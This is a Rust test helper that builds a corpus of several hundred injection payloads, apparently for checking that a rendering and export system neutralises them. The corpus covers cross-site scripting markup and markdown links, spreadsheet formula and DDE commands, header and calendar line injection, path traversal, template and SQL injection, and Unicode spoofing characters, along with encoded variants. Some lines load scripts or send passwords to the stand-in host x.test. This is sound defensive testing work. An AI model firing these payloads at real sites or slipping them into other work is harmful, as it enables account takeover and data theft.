//! What somebody may type who wants a page, a file or a header to do something: made here, by combination.

/// Markup that would run, load or hide something where it is taken for markup.
const MARKUP: &[&str] = &[
    "<script>alert(1)</script>",
    "<script src=//x.test/a.js></script>",
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img/src='x'/onerror='alert(1)'>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><use href='data:image/svg+xml,x#a'></use></svg>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src=javascript:alert(1)>",
    "<object data=javascript:alert(1)>",
    "<embed src=//x.test/a.swf>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='java&#9;script:alert(1)'>x</a>",
    "<form action=//x.test><input name=password>",
    "<button formaction=//x.test>x</button>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<body onload=alert(1)>",
    "<base href=//x.test/>",
    "<meta http-equiv=refresh content='0;url=//x.test'>",
    "<link rel=stylesheet href=//x.test/a.css>",
    "<style>*{display:none}</style>",
    "<p style='position:fixed;inset:0'>x</p>",
    "<video><source onerror=alert(1)></video>",
    "<audio src onerror=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "\"><script>alert(1)</script>",
    "'><img src=x onerror=alert(1)>",
    "\" onmouseover=\"alert(1)",
    "' autofocus onfocus='alert(1)",
    "<!--<img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<plaintext>",
    "<marquee onstart=alert(1)>",
    "<xmp><script>alert(1)</script></xmp>",
];

/// Markdown that would become more than text, a list or a plain link.
const MARKDOWN: &[&str] = &[
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "[x](//x.test)",
    "[x](/logout)",
    "[x](https://x.test \"\" onmouseover=alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x][1]\n\n[1]: javascript:alert(1)",
    "![x](https://x.test/a.png)",
    "![x](javascript:alert(1))",
    "![x][1]\n\n[1]: https://x.test/a.png",
    "<javascript:alert(1)>",
    "<https://x.test/\"onmouseover=alert(1)>",
    "https://x.test/<script>alert(1)</script>",
    "```<script>\nalert(1)\n```",
    "```js\" onmouseover=\"alert(1)\nx\n```",
    "# <img src=x onerror=alert(1)>",
    "| a | <script>alert(1)</script> |\n|---|---|",
    "- [ ] <input onfocus=alert(1) autofocus>",
    "[^1]\n\n[^1]: <script>alert(1)</script>",
    "$$\\href{javascript:alert(1)}{x}$$",
    "**<b onmouseover=alert(1)>x</b>**",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\\<script\\>alert(1)\\</script\\>",
];

/// What spreadsheets, calendars, headers, templates and databases may take for their own.
const OTHERS: &[&str] = &[
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://x.test\",\"x\")",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\u{FF1D}1+1",
    "\u{FF0B}1+1",
    "\u{FF0D}1+1",
    "\u{FF20}SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\";=1+1;\"",
    "x\",\"=1+1",
    "x\r\nBEGIN:VEVENT\r\nSUMMARY:x\r\nEND:VEVENT",
    "x\nATTACH:https://x.test/a",
    "x\r\n URL:https://x.test",
    "x;TZID=x:20260101",
    "x\\nDTSTART:19700101",
    "x\r\nSet-Cookie: preau=1",
    "x%0d%0aLocation:%20//x.test",
    "x\u{2028}Set-Cookie: a=b",
    "../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "a\u{0}b",
    "{{ 7*7 }}",
    "${7*7}",
    "<%= 7*7 %>",
    "#{7*7}",
    "{% raw %}",
    "' or '1'='1",
    "'; drop table person; --",
    "\") or 1=1 --",
    "\\x27 or 1=1",
    "%s%n%x",
    "\u{202E}txt.exe",
    "\u{2066}x",
    "a\u{200B}b\u{200D}c",
    "\u{FEFF}x",
    "e\u{301}\u{301}\u{301}\u{301}\u{301}",
    "\u{FDFD}\u{12031}",
    "\u{1F469}\u{200D}\u{1F467}",
    "\u{FFFE}",
    "\u{E0041}\u{E007F}",
];

/// All of it: markup as it is and in the disguises that readers of markup undo, and the rest as it is.
pub(super) fn all() -> Vec<String> {
    let every = made();
    assert!(every.len() >= 300, "{}", every.len());
    every
}

/// Of the corpus, what is tried where each payload costs many pages: every fifth, or all with `PAYLOADS=all` (`script/soak payloads`).
pub(super) fn some() -> Vec<String> {
    let step = if std::env::var("PAYLOADS").is_ok_and(|which| which == "all") {
        1
    } else {
        5
    };
    all().into_iter().step_by(step).collect()
}

fn made() -> Vec<String> {
    let mut all: Vec<String> = Vec::new();
    for markup in MARKUP {
        all.push((*markup).to_owned());
        all.push(markup.to_uppercase());
        all.push(entities(markup));
        all.push(
            markup
                .chars()
                .map(|c| if c == '<' { "<\u{0}".to_owned() } else { c.to_string() })
                .collect(),
        );
        all.push(markup.replace('<', "%3C").replace('>', "%3E"));
        all.push(markup.chars().map(wide).collect());
    }
    for text in MARKDOWN.iter().chain(OTHERS) {
        all.push((*text).to_owned());
    }
    all.sort();
    all.dedup();
    assert!(all.len() >= 300, "{}", all.len());
    all
}

/// Each sign of markup as a numbered entity.
fn entities(text: &str) -> String {
    text.chars()
        .map(|c| {
            if c.is_ascii_alphanumeric() {
                c.to_string()
            } else {
                format!("&#{};", u32::from(c))
            }
        })
        .collect()
}

/// The sign of double width that looks like it, which some readers fold back.
fn wide(c: char) -> char {
    match c {
        '!'..='~' => char::from_u32(u32::from(c) + 0xFEE0).unwrap_or(c),
        _ => c,
    }
}
